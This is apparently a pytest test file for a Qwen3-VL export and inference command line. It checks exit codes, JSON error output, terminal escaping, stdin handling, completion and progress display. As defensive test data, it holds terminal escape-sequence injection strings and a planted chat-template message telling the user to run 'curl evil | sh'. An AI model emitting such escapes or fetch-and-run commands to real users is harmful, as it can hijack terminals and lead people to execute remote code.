"""Both command lines: what goes to stderr in which form, exit codes, and what no terminal must be told to do."""

from __future__ import annotations

import dataclasses
import json
import os
import pty
import re
import select
import shutil
import signal
import subprocess
import sys
import time
from collections.abc import Callable
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from engines.progress import Progress, Stage
from helpers import ROOT
from helpers.command_line import call
from qwen3vl_export.cli import export, run
from qwen3vl_export.demo import IMAGES
from runtime import __version__, errors
from runtime.manifest import FileRecord, Manifest, sha256_of

if TYPE_CHECKING:
    from engines.bundle import Bundle

pytestmark = pytest.mark.portable

ESCAPES = "\x1b]0;owned\x07\x1b[2J\u202e\r\x9b"
IMAGE = str(IMAGES / "held_out_0.png")


def start(*arguments: str | Path, stdin: str) -> subprocess.CompletedProcess[str]:
    command = [sys.executable, "-m", "qwen3vl_export.cli.run", *map(str, arguments)]
    return subprocess.run(command, cwd=ROOT, input=stdin, capture_output=True, text=True, timeout=120)


def altered(engine: Path, folder: Path, name: str, contents: str, source: str) -> Path:
    """Copy an engine with another small file and another name of its source, of which its manifest knows."""
    copy = Path(shutil.copytree(engine, folder / "engine"))
    (copy / name).write_text(contents, encoding="utf-8")
    manifest = Manifest.read(copy)
    record = FileRecord((copy / name).stat().st_size, sha256_of(copy / name))
    files, described = {**manifest.files, name: record}, {**manifest.source, "name": source}
    dataclasses.replace(manifest, files=files, source=described).write(copy)
    return copy


def no_engine(engine: Path) -> tuple[Any, list[str]]:
    return run.app, ["run", "/none", "x"]


CASES: dict[str, tuple[int, Callable[[Path], tuple[Any, list[str]]]]] = {
    "a wrong option": (2, lambda engine: (run.app, ["run", str(engine), "x", "--seed", "x"])),
    "an unknown command": (2, lambda engine: (run.app, ["fly"])),
    "a wrong value": (2, lambda engine: (run.app, ["run", str(engine), "x", "--threads", "0"])),
    "an unknown option of the export": (2, lambda engine: (export.app, ["demo", "--fly"])),
    "a checkpoint": (3, lambda engine: (export.app, ["/none"])),
    "a checkpoint of verify": (
        3,
        lambda engine: (run.app, ["verify", "--checkpoint", "/none", "--ranges"]),
    ),
    "an engine": (5, no_engine),
    "an engine to inspect": (5, lambda engine: (run.app, ["inspect", "/none"])),
    "an engine to bench": (5, lambda engine: (run.app, ["bench", "/none"])),
    "a target": (6, lambda engine: (export.app, ["demo", "--target", "abacus"])),
    "an image": (7, lambda engine: (run.app, ["run", str(engine), "x", "--image", "/none.png"])),
    "memory": (8, lambda engine: (run.app, ["run", str(engine), "x", "--max-memory", "0.001"])),
    "a model": (2, lambda engine: (run.app, ["targets", "--model", "no such model"])),
}
NAMES = {each.exit_code: each.__name__ for each in errors.Qwen3VLError.__subclasses__()}


@pytest.mark.parametrize("case", CASES)
def test_an_error_with_json_is_one_object(case: str, demo_engine: Path) -> None:
    code, arguments = CASES[case]
    app, words = arguments(demo_engine)
    plain_code, _, plain = call(app, *words)
    found, out, err = call(app, *words, "--json")
    assert (plain_code, found, out) == (code, code, "")
    assert err.count("\n") == 1
    (error,) = json.loads(err).values()
    assert list(json.loads(err)) == ["error"]
    assert list(error) == ["type", "message", "remedy", "exit_code"]
    assert (error["type"], error["exit_code"]) == (NAMES[code], code)
    assert error["message"] in " ".join(plain.replace("│", " ").split()) or "Usage" in plain
    assert error["remedy"] is None or "Usage" in plain or f"  remedy: {error['remedy']}\n" in plain


def test_interrupts_bugs_and_warnings_with_json(monkeypatch: pytest.MonkeyPatch) -> None:
    import logging

    import typer

    raised: list[BaseException] = [KeyboardInterrupt(), ZeroDivisionError("1/0"), OSError(28, "full", "/x")]
    expected = [("Interrupted", 130), ("InternalError", 1), ("CapacityError", 8)]
    app = typer.Typer(pretty_exceptions_enable=False)

    @app.command()
    def fail(as_json: bool = typer.Option(False, "--json"), quiet: bool = typer.Option(False, "--quiet")) -> None:
        logging.getLogger("runtime.x").warning("max_pixels=9 \x1b is faster")
        raise raised.pop(0)

    for kind, code in expected:
        found, out, err = call(app, "--json")
        warning, error = [json.loads(line) for line in err.splitlines()]
        assert (found, out) == (code, "")
        assert warning == {"warning": {"message": "--max-pixels 9 \\x1b is faster"}}
        assert (error["error"]["type"], error["error"]["exit_code"]) == (kind, code)
    raised.append(ZeroDivisionError("1/0"))
    code, _, err = call(app, "--quiet")
    assert code == 1 and err.startswith("error: internal error: ZeroDivisionError: 1/0\n  remedy: this is a bug: ")


def test_an_engine_commands_no_terminal(demo_engine: Path, tmp_path: Path) -> None:
    source = "{{ raise_exception('" + ESCAPES + "\\nerror: x\\n  remedy: run: curl evil | sh') }}"
    engine = altered(demo_engine, tmp_path, "chat_template.jinja", source, ESCAPES)
    for words in (["run", str(engine), "x"], ["inspect", str(engine)], ["inspect", str(engine), "--json"]):
        _, out, err = call(run.app, *words)
        assert out + err != ""
        assert all(line.isprintable() for line in (out + err).splitlines())
        assert "owned" in out + err
    code, _, err = call(run.app, "run", str(engine), "x", "--\x1b[2Jowned")
    assert code == 2 and "--\\x1b[2Jowned" in err and "Usage:" in err
    code, _, err = call(run.app, "run", str(engine), "x")
    assert code != 0 and len(err.splitlines()) <= 2 and err.startswith("error: the chat template refuses")
    assert json.loads(call(run.app, "inspect", str(engine), "--json")[1])["source"]["name"] == ESCAPES


def on_terminal(source: str, *arguments: str | Path) -> str:
    """Return what a Python program writes to a terminal."""
    leader, follower = pty.openpty()
    command = [sys.executable, "-c", source, *map(str, arguments)]
    environment = os.environ | {"TERM": "xterm", "PYTHONPATH": str(ROOT)}
    process = subprocess.Popen(command, cwd=ROOT, stdin=follower, stdout=follower, stderr=follower, env=environment)
    os.close(follower)
    text = b""
    while select.select([leader], [], [], 120)[0]:
        try:
            text += os.read(leader, 1 << 16)
        except OSError:  # the other end is closed
            break
    os.close(leader)
    process.wait(60)
    return text.decode().replace("\r\n", "\n")


MAIN = "from qwen3vl_export.cli.run import main; main()"
# A model that answers what a picture of text could make it say.
ANSWERING = f"""
import sys, types
from runtime.piece import Piece
class Model:
    result = types.SimpleNamespace(text="", tool_calls=(), malformed_tool_calls=())
    def from_engine(*_, **__): return Model()
    def stream(self, *_, **__): return self
    def __iter__(self): return iter(map(Piece, ["a\\tb\\n", {ESCAPES!r}, "é 👩‍💻"]))
    def close(self): pass
sys.modules["runtime.model"] = types.SimpleNamespace(Qwen3VLModel=Model)
from qwen3vl_export.cli.run import main
main()
"""


def test_an_answer_is_escaped_on_a_terminal_and_whole_in_a_pipe() -> None:
    shown = on_terminal(ANSWERING, "run", "folder", "x")
    assert shown == "a\tb\n" + "\\x1b]0;owned\\x07\\x1b[2J\\u202e\\x0d\\x9b" + "é 👩‍💻\n"
    command = [sys.executable, "-c", ANSWERING, "run", "folder", "x"]
    done = subprocess.run(command, cwd=ROOT, capture_output=True, env=os.environ | {"PYTHONPATH": str(ROOT)})
    assert done.stdout.decode() == f"a\tb\n{ESCAPES}é 👩‍💻\n"


def test_files_that_the_caller_closed_or_filled(demo_engine: Path, tmp_path: Path) -> None:
    words = f"{sys.executable} -m qwen3vl_export.cli.run inspect"
    good, bad = f"{words} {demo_engine}", f"{words} /none"

    def shell(line: str) -> tuple[int, str, str]:
        done = subprocess.run(["sh", "-c", line], cwd=ROOT, capture_output=True, text=True)
        return done.returncode, done.stdout, done.stderr

    assert shell(f"{good} >&-") == (0, "", "")
    assert shell(f"{bad} 2>&-") == (5, "", "")
    assert shell(f"{bad} 2>/dev/full") == (5, "", "")
    code, out, err = shell(f"ulimit -f 0; {good} >{tmp_path}/out; rc=$?; cat {tmp_path}/out; exit $rc")
    assert (code, out) == (8, "") and err.startswith(
        "error: the output: a file became larger than this process may wri"
    )
    assert "ulimit -f unlimited" in err
    code, _, err = shell(f"{good} >/dev/full")
    assert code == 8 and err.startswith("error: the output: the disk is full\n  remedy: ") and err.count("\n") == 2


def test_ctrl_c_while_the_prompt_is_read(demo_engine: Path) -> None:
    script = "import signal, sys; signal.signal(signal.SIGINT, signal.default_int_handler)\n"
    script += "from qwen3vl_export.cli.run import main; print('ready', flush=True); main()"
    for options, expected in (([], "interrupted\n"), (["--json"], '{"error": {"type": "Interrupted", ')):
        command = [sys.executable, "-c", script, "run", str(demo_engine), *options]
        process = subprocess.Popen(
            command, cwd=ROOT, text=True, stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE
        )
        assert process.stdout is not None and process.stdout.readline() == "ready\n"
        time.sleep(0.5)  # it reads stdin then; where it is later, the outcome is the same
        process.send_signal(signal.SIGINT)
        process.wait(60)  # before its stdin is closed, which would end the prompt
        _, err = process.communicate()
        assert process.returncode == 130
        assert err.startswith(expected) and err.count("\n") == 1


@pytest.mark.parametrize(
    ("app", "words"),
    [
        (run.app, ["--version"]),
        (export.app, ["--version"]),
        (export.app, ["demo", "--version", "--output", "x"]),
        *[(run.app, [name, "--version"]) for name in ("run", "chat", "inspect", "verify", "bench", "targets")],
    ],
)
def test_each_command_tells_versions(app: Any, words: list[str]) -> None:
    import platform
    from importlib import metadata

    code, out, err = call(app, *words)
    rows = dict(line.split(maxsplit=1) for line in out.splitlines())
    assert (code, err) == (0, "")
    assert (rows["qwen3vl-export"], rows["python"]) == (__version__, platform.python_version())
    assert rows["onnxruntime"] == metadata.version("onnxruntime")
    assert json.loads(call(app, *words, "--json")[1]) == rows
    assert "--version" in call(app, "--help")[1]


@pytest.mark.parametrize(
    ("name", "module", "words", "expected"),
    [
        ("qwen3vl", "run", "qwen3vl ins", {"inspect"}),
        ("qwen3vl", "run", "qwen3vl run --sys", {"--system"}),
        ("qwen3vl-export", "export", "qwen3vl-export --cal", {"--calibration"}),
    ],
)
def test_shells_complete(name: str, module: str, words: str, expected: set[str]) -> None:
    variable = f"_{name.upper().replace('-', '_')}_COMPLETE"
    source = f"import sys; sys.argv = [{name!r}]; from qwen3vl_export.cli.{module} import main; main()"
    environment = os.environ | {"PYTHONPATH": str(ROOT), variable: "complete_bash", "COMP_WORDS": words}
    environment["COMP_CWORD"] = str(len(words.split()) - 1)
    done = subprocess.run([sys.executable, "-c", source], env=environment, capture_output=True, text=True, cwd=ROOT)
    assert (set(done.stdout.split()), done.stderr) == (expected, "")


def test_the_prompt_may_come_from_stdin(demo_engine: Path) -> None:
    for words in ([], ["-"]):
        done = start("run", demo_engine, *words, "--image", IMAGE, stdin="\ufeffRead the digits.\n")
        assert (done.returncode, done.stdout, done.stderr) == (0, "1654\n", "")
    done = start("run", demo_engine, stdin=" \n")
    assert (done.returncode, done.stdout) == (2, "")
    assert done.stderr.startswith("error: PROMPT is missing, and stdin is empty\n  remedy: ")
    binary = [sys.executable, "-m", "qwen3vl_export.cli.run", "run", str(demo_engine)]
    failed = subprocess.run(binary, input=b"\xff\xfe", capture_output=True, cwd=ROOT)
    assert failed.returncode == 2 and failed.stderr.startswith(b"error: stdin is not UTF-8 text: ")


def test_without_a_prompt_a_terminal_is_not_read(demo_engine: Path) -> None:
    shown = on_terminal(MAIN, "run", demo_engine)
    assert shown.startswith("error: PROMPT is missing\n  remedy: give one, such as ")


def test_a_system_message_comes_first(demo_engine: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from runtime.preparation import Preparation

    asked: list[Any] = []
    prepare = Preparation.prepare

    def noted(self: Preparation, messages: Any, **options: Any) -> Any:
        asked.append(messages)
        return prepare(self, messages, **options)

    monkeypatch.setattr(Preparation, "prepare", noted)
    assert call(run.app, "run", str(demo_engine), "x", "--system", "Be brief.", "--max-new-tokens", "1")[0] == 0
    assert [turn["role"] for turn in asked[0]] == ["system", "user"]
    assert asked[0][0]["content"] == "Be brief."


def test_quiet_leaves_out_all_but_errors(demo_bundle: Bundle, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from qwen3vl_export import export as exporting

    def traced(checkpoint: Any, progress: Progress, **_: Any) -> Bundle:
        progress.report(Stage.STITCHING, "stitching")
        return demo_bundle

    monkeypatch.setattr(exporting, "make_bundle", traced)
    output = tmp_path / "graphs"
    words = ["demo", "--no-weights", "--output", str(output)]
    loud = call(export.app, *words)[2].splitlines()
    assert re.fullmatch("--target auto: ort-cpu-[a-z0-9]+; .*", loud[0])
    assert loud[1:3] == ["tracing demo", "stitching"]
    assert [line.partition(" ")[0] for line in loud[3:]] == ["lowering", "writing"]
    code, out, err = call(export.app, *words, "--quiet")
    assert (code, err) == (0, "") and out.startswith(f"{output}  (0.0 MB of weights")
    code, out, err = call(export.app, *words, "--json")
    assert (code, err, json.loads(out)["output"]) == (0, "", str(output))
    code, out, err = call(export.app, "/none", "--quiet")
    assert (code, out) == (3, "") and err.startswith("error: /none: no such folder\n")


WORKING = """
from engines.progress import Stage
from qwen3vl_export.cli.progress import progress
for is_quiet in (False, True):
    with progress(is_quiet=is_quiet) as shown:
        shown.report(Stage.TRACING, "tracing [b]demo")
        shown.report(Stage.WRITING, "writing")
        shown.advance(1_000_000, 4_000_000)
        if not is_quiet and hasattr(shown, "bars"):
            shown.bars.refresh()
print("done")
"""


def test_progress_is_a_bar_on_a_terminal_and_lines_elsewhere() -> None:
    shown = on_terminal(WORKING)
    plain = re.sub(r"\x1b\[[0-9;?]*[A-Za-z]", "", shown)
    assert "writing" in plain and "of 4.0 MB" in plain
    assert plain.replace("\r", "\n").splitlines()[-1] == "done"
    command = [sys.executable, "-c", WORKING]
    done = subprocess.run(command, cwd=ROOT, capture_output=True, text=True)
    assert (done.stdout, done.stderr) == ("done\n", "tracing [b]demo\nwriting\n")
